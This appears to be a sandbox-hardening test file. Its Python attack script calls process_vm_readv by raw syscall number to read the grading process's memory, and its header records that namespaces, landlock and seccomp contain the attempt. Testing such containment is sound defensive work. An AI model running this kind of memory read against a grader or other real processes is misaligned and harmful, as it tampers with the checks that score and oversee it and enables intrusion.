# attack: reads the grading process's memory with process_vm_readv
# full: contained
# reduced: contained
# stopped-by: namespaces, landlock, seccomp
import ctypes
import os
import platform
import struct

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def syscall(numbers, *arguments):
    number = numbers.get(platform.machine())
    if number is None:
        raise OSError("no system call numbers for this machine")
    whole = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    result = libc.syscall(ctypes.c_long(number), *whole)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def attack():
    # Where a program is loaded is not known, but the error for a bad address is another than that for no permission.
    buffer = ctypes.create_string_buffer(8)
    local = struct.pack("<QQ", ctypes.addressof(buffer), 8)
    try:
        read = syscall({"x86_64": 310, "aarch64": 270}, GRADER, local, 1, struct.pack("<QQ", 8, 8), 1, 0)
    except OSError as error:
        if error.errno == 14:
            return "through: only the address was wrong"
        raise
    return f"through: {read} bytes"
